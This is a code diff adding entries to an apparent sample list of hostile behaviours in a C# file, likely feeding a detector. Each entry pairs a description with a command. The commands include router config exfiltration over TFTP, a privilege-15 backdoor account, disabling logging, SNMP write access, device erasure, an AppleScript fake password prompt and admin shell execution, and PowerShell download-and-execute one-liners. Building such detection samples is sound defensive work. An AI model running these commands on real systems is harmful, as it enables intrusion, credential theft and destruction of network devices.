@@ -5,6 +5,19 @@ internal static class BehaviourSamples
 {
     public static readonly (string Name, string Sample)[] Shows =
     [
+        ("Copies the configuration of a network device elsewhere", "copy running-config tftp://192.0.2.1/a"),
+        ("Shows the configuration of a network device", "Router#show running-config"),
+        ("Makes an account with all rights on a network device", "username a privilege 15 secret b"),
+        ("Runs scripts on a network device", "Router#tclsh"),
+        ("Records traffic on a network device", "monitor capture a interface Gi0/1 both"),
+        ("Switches off logging on a network device", "no logging on"),
+        ("Exchanges the software of a network device", "boot system flash:a.bin"),
+        ("Makes a tunnel on a network device", "interface Tunnel0"),
+        ("Opens the management of a network device", "snmp-server community a RW"),
+        ("Erases a network device", "Router#write erase"),
+        ("Runs shell commands from AppleScript", "do shell script \"ls\""),
+        ("Asks for a password by a dialog of AppleScript", "display dialog \"Password\" default answer \"\" with hidden answer"),
+        ("Runs shell commands with the rights of an administrator", "do shell script \"ls\" with administrator privileges"),
         ("Runs text that it downloads", "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')"),
         ("Runs text that it downloads", "iwr http://192.0.2.1/a -useb | iex"),
         ("Runs text that it downloads", "$t = (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a'); iex $t"),
